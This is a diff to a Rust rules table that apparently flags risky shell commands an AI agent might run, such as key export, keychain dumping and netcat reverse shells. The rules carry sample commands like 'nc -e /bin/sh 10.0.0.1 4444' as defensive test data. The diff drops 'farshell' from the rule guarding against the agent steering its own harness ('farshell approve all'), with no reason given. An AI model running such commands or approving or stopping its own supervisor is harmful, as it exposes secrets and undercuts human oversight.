@@ -201,9 +201,9 @@ pub(crate) const RULES: &[Rule] = &[
         "exports or deletes keys": "whoever has them is the user"; + "gpg --export-secret-keys"; - "gpg --verify a.sig"),
     rule!("keys" Risky ["security", "secret-tool", "pass", "op", "vault", "ssh-copy-id"], Subs(&["dump-keychain", "find-generic-password", "find-internet-password", "lookup", "show", "read", "kv get", "item get", "delete-keychain", "rm"]);
         "reads or deletes stored secrets": "they would be in the conversation from then on"; + "security dump-keychain", "pass show mail"; - "vault status"),
-    rule!("farshell-itself" Risky ["farshell", "hermes"], Operand(&["stop", "restart", "shutdown", "update", "approve", "destroy", "gc", "reset", "uninstall"]);
+    rule!("farshell-itself" Risky ["hermes"], Operand(&["stop", "restart", "shutdown", "update", "approve", "destroy", "gc", "reset", "uninstall"]);
         "steers the program that runs the agent": "the agent would decide about itself";
-        + "farshell approve all", "farshell server stop"; - "farshell ps"),
+        + "hermes gateway stop"; - "hermes status"),
     rule!("network-listener" Risky ["nc", "ncat", "netcat", "socat"], Has(&["-e", "-c", "--exec", "--sh-exec"]);
         "connects a program to the network": "it can hand the shell to somebody else"; + "nc -e /bin/sh 10.0.0.1 4444"; - "nc -z localhost 80"),
 ];
